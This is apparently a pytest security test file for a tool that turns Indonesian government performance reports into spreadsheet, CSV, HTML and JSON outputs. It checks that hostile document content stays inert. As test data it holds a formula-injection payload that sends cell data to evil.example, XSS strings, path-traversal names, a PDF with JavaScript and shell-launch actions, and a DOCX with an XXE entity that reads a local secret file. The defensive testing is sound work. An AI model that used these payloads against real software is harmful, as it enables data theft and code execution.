"""Output safety: what a document says can neither run in a spreadsheet or a browser nor pick a path.

* every string cell of every sheet of ``lkjip.xlsx`` and every field of ``csv/*.csv`` is
  formula-escaped (:func:`lkjip.corpus.safety.excel_safe`);
* every document string in ``report.html`` is HTML-escaped;
* names from documents never become paths: ``reports/<report_id>.json`` uses the sha-derived id,
  and an instansi or a program called ``../../etc/passwd`` or ``CON`` writes nothing outside OUT_DIR.
"""

from __future__ import annotations

import csv
import os
import re
import sys
from pathlib import Path

import openpyxl
import pytest
from conftest import REPO
from test_batch_fake import make_report

if str(REPO) not in sys.path:  # bench/ is a folder of the repository, not part of the installed package
    sys.path.insert(0, str(REPO))

from bench.fuzz import _FONT, pdf_stream, raw_pdf, run_file  # noqa: E402
from lkjip.corpus.batch import run_batch  # noqa: E402
from lkjip.corpus.csv_export import csv_value  # noqa: E402
from lkjip.corpus.safety import FORMULA_TRIGGERS, excel_safe, is_formula_like  # noqa: E402
from lkjip.corpus.store import Store  # noqa: E402
from lkjip.model import Flag, Report  # noqa: E402
from lkjip.pipeline import extract_report  # noqa: E402

FAKE = "test_batch_fake:json_extractor"
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
SCRIPT = "<script>alert(1)</script>"
PAYLOAD = FORMULA + SCRIPT
#: string fields whose values are fixed vocabularies (Literal types) or identities the batch sets
FIXED = {"schema_name", "schema_version", "report_id", "sha256", "status", "document_type", "severity", "level",
         "found_by", "jenis", "field", "kind", "context"}


def _poison(value, payload: str):
    """Every free string of a dumped report replaced by ``payload`` + the original (fixed fields kept)."""
    if isinstance(value, dict):
        return {k: (v if k in FIXED else _poison(v, payload)) for k, v in value.items()}
    if isinstance(value, list):
        return [_poison(v, payload) for v in value]
    if isinstance(value, str) and not re.fullmatch(r"-?\d+(\.\d+)?|\d{4}-\d\d-\d\d", value):
        return payload + value
    return value


def poisoned_report(instansi: str) -> Report:
    rep = make_report(instansi, flags=[Flag(rule="budget.children_sum", severity="error", message="selisih",
                                            expected="1", found="2", source_table="Tabel 3.6",
                                            evidence="Tabel 3.6 baris 41")])
    return Report.model_validate(_poison(rep.model_dump(mode="json"), PAYLOAD))


@pytest.fixture(scope="module")
def hostile_batch(tmp_path_factory):
    root = tmp_path_factory.mktemp("safety")
    src = root / "in"
    src.mkdir()
    (src / "a.rep").write_text(poisoned_report("Kecamatan Alpha").model_dump_json())
    # the input file's own name is shown in every output too
    (src / '=2+5 <img src=x onerror=alert(2)>.rep').write_text(poisoned_report("Kecamatan Bravo").model_dump_json())
    summary = run_batch(src, root / "out", quiet=True, extractor=FAKE, workers=1)
    assert (summary.processed, summary.failed) == (2, 0)
    return root / "out"


def test_every_string_cell_of_every_sheet_is_formula_escaped(hostile_batch):
    wb = openpyxl.load_workbook(hostile_batch / "lkjip.xlsx")
    poisoned_sheets = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not is_formula_like(cell.value), (ws.title, cell.coordinate, cell.value)
                    if cell.value.startswith("'" + FORMULA):
                        poisoned_sheets.add(ws.title)
    with_rows = {ws.title for ws in wb.worksheets if ws.max_row > 1}
    assert {"Ringkasan", "Temuan", "reports", "budget_lines", "performance", "flags"} <= with_rows
    assert poisoned_sheets == with_rows  # the payload reached every sheet that has rows, escaped
    ring = wb["Ringkasan"]
    header = [c.value for c in ring[1]]
    # rows follow report_id (the hash of the input file): pick the row of a.rep by its file
    row = next(r for r in range(2, ring.max_row + 1) if ring.cell(r, header.index("file") + 1).value == "a.rep")
    assert ring.cell(row, header.index("instansi") + 1).value == "'" + PAYLOAD + "Kecamatan Alpha"


def test_every_csv_field_is_formula_escaped(hostile_batch):
    files = sorted((hostile_batch / "csv").glob("*.csv"))
    with Store(hostile_batch / "lkjip.sqlite") as st:
        tables = st.load_tables()
    assert [f.stem for f in files] == sorted(tables)
    seen = 0
    for f in files:
        with f.open(newline="", encoding="utf-8-sig") as fh:
            rows = list(csv.reader(fh))
        assert rows[0] == list(tables[f.stem].columns)
        assert len(rows) == len(tables[f.stem]) + 1
        for row in rows[1:]:
            for v in row:
                assert not is_formula_like(v), (f.name, v)
                seen += v.startswith("'" + FORMULA)
    assert seen > 20


def test_csv_values_are_exact_and_escaped():
    from datetime import date
    from decimal import Decimal

    assert csv_value(Decimal("2662394679.00")) == "2662394679.00"
    assert csv_value(Decimal("-1E+3")) == "-1000"
    assert csv_value("-1.234,50") == "-1.234,50"  # a plain negative number as text stays a number
    assert csv_value("=1+2") == "'=1+2" and csv_value("@SUM(A1)") == "'@SUM(A1)"
    assert csv_value(None) == "" and csv_value(float("nan")) == ""
    assert csv_value(True) == "true" and csv_value(date(2022, 1, 3)) == "2022-01-03"


def test_excel_safe_covers_every_trigger():
    for t in FORMULA_TRIGGERS:
        assert excel_safe(t + "cmd") == "'" + t + "cmd"
    assert excel_safe("-5") == "-5" and excel_safe("+12 %") == "+12 %" and excel_safe(5) == 5


def test_document_strings_are_html_escaped(hostile_batch):
    html = (hostile_batch / "report.html").read_text(encoding="utf-8")
    assert SCRIPT not in html and "<img" not in html
    assert html.count("<script") == 1  # the page's own filter script, nothing else
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "&lt;img src=x onerror=alert(2)&gt;" in html
    assert 'onerror=' not in html.replace("onerror=alert(2)&gt;", "")


def test_report_json_files_are_named_by_sha(hostile_batch):
    names = sorted(p.name for p in (hostile_batch / "reports").iterdir())
    assert len(names) == 2 and all(re.fullmatch(r"[0-9a-f]{16}\.json", n) for n in names)


# --- the real extractor on a text export with hostile names -------------------------------------------


def _tree(root: Path) -> set[str]:
    return {str(p.relative_to(root)) for p in root.rglob("*")}


def test_names_from_documents_never_become_paths(tmp_path):
    from lkjip.synth.generate import generate_report

    text = generate_report(5, instansi="Kecamatan CON", kabupaten="Kabupaten Uji", tahun=2022).text
    hostile = ["../../../../etc/passwd", "..\\..\\windows\\win.ini", SCRIPT, FORMULA, "/tmp/lkjip-pwned"]
    lines, k = text.split("\n"), 0
    for i, line in enumerate(lines):
        cells = line.split("\t")
        j = next((j for j in (0, 1) if len(cells) > 3 and cells[j].startswith("Program ")), None)
        if j is not None and k < len(hostile):  # a program row of a budget table
            cells[j] = hostile[k]
            lines[i] = "\t".join(cells)
            k += 1
    assert k == len(hostile)
    src = tmp_path / "in"
    src.mkdir()
    (src / "laporan.txt").write_text("\n".join(lines), encoding="utf-8")
    before_repo, before_cwd = set(os.listdir(Path(__file__).parents[1])), set(os.listdir(Path.cwd()))
    passwd_mtime = Path("/etc/passwd").stat().st_mtime
    run_batch(src, tmp_path / "out", quiet=True, workers=1)

    with Store(tmp_path / "out" / "lkjip.sqlite") as st:
        reports, budget = st.load_table("reports"), st.load_table("budget_lines")
    assert reports["instansi"].str.upper().tolist() == ["KECAMATAN CON"]
    assert set(hostile) <= set(budget["uraian"])  # the names were read…
    outside = _tree(tmp_path) - {"in", "in/laporan.txt"}
    assert all(p == "out" or p.startswith("out/") for p in outside)  # …and wrote nothing outside OUT_DIR
    rid = reports["report_id"].iloc[0]
    assert sorted(os.listdir(tmp_path / "out" / "reports")) == [f"{rid}.json"]
    assert re.fullmatch(r"[0-9a-f]{16}", rid)
    assert not any("passwd" in p or "CON" in Path(p).name or "pwned" in p for p in outside)
    assert set(os.listdir(Path(__file__).parents[1])) == before_repo
    assert set(os.listdir(Path.cwd())) == before_cwd
    assert Path("/etc/passwd").stat().st_mtime == passwd_mtime and not Path("/tmp/lkjip-pwned").exists()
    html = (tmp_path / "out" / "report.html").read_text(encoding="utf-8")
    assert SCRIPT not in html


# --- documents cannot reach the network, run code or read other files ----------------------------------


@pytest.fixture
def listener():
    """A TCP server on 127.0.0.1 that every link in the hostile documents points at; it must stay silent."""
    import socket

    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    srv.bind(("127.0.0.1", 0))
    srv.listen(8)
    srv.setblocking(False)
    yield srv.getsockname()[1]

    try:
        conn, _ = srv.accept()
    except BlockingIOError:
        conn = None
    srv.close()
    assert conn is None, "a document made lkjip open a network connection"


def test_pdfium_is_built_without_javascript_and_xfa():
    import pypdfium2 as pdfium

    flags = set(pdfium.PDFIUM_INFO.flags)
    assert not flags & {"V8", "XFA"}


def active_pdf(port: int) -> bytes:
    """A one-page PDF whose open action, page action, link, form and remote go-to all point at ``port``."""
    url = f"http://127.0.0.1:{port}".encode()
    js = b"app.launchURL(\"" + url + b"/js\"); this.submitForm(\"" + url + b"/submit\");"
    content = b"BT /F1 12 Tf 72 770 Td (LAPORAN KINERJA INSTANSI PEMERINTAH) Tj ET"
    return raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 8 0 R /WS 9 0 R >> "
        b"/Names << /JavaScript << /Names [(x) 6 0 R] >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> "
        b"/Contents 4 0 R /Annots [7 0 R] /AA << /O 10 0 R >> >>",
        pdf_stream(content), _FONT,
        b"<< /S /JavaScript /JS (" + js.replace(b"(", b"\\(").replace(b")", b"\\)") + b") >>",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (" + url + b"/uri) >> >>",
        b"<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>",
        b"<< /S /SubmitForm /F << /FS /URL /F (" + url + b"/form) >> >>",
        b"<< /S /GoToR /F << /FS /URL /F (" + url + b"/gotor) >> /D [0 /Fit] >>",
    ])


def test_active_pdf_content_is_inert(tmp_path, listener):
    p = tmp_path / "aktif.pdf"
    p.write_bytes(active_pdf(listener))
    outcome, detail, _ = run_file(p, timeout=60, memory_mb=2048)  # the real worker, as in a batch
    assert outcome in ("success", "partial", "failed:not_a_report"), detail


def hostile_docx(src: Path, dst: Path, port: int, secret_file: Path) -> Path:
    """The generated DOCX with external relationships and XML entities pointing at a file and ``port``."""
    import zipfile

    url = f"http://127.0.0.1:{port}"
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename == "word/document.xml":
                head, sep, body = data.partition(b"?>")
                doctype = (f'<!DOCTYPE w:document [<!ENTITY xf SYSTEM "file://{secret_file}">'
                           f'<!ENTITY xn SYSTEM "{url}/xxe">]>').encode()
                data = head + sep + doctype + body.replace(b"<w:t>", b"<w:t>&xf;&xn;", 1)
            elif info.filename == "word/_rels/document.xml.rels":
                data = data.replace(b"</Relationships>", (
                    f'<Relationship Id="rIdX1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                    f'relationships/image" Target="{url}/image.png" TargetMode="External"/>'
                    f'<Relationship Id="rIdX2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                    f'relationships/hyperlink" Target="{url}/link" TargetMode="External"/>'
                    '</Relationships>').encode())
            zout.writestr(info, data)
    return dst


def test_docx_external_links_and_entities_are_not_followed(tmp_path, listener):
    secret = tmp_path / "rahasia.txt"
    secret.write_text("RAHASIA-7f3a-91c2")
    src = Path(__file__).parent / "data" / "generated" / "gen-sukamaju-2022-bordered.docx"
    p = hostile_docx(src, tmp_path / "xxe.docx", listener, secret)
    outcome, detail, _ = run_file(p, timeout=60, memory_mb=2048)
    assert outcome in ("success", "partial", "failed:input"), detail
    report = extract_report(p)
    assert "RAHASIA" not in report.model_dump_json()
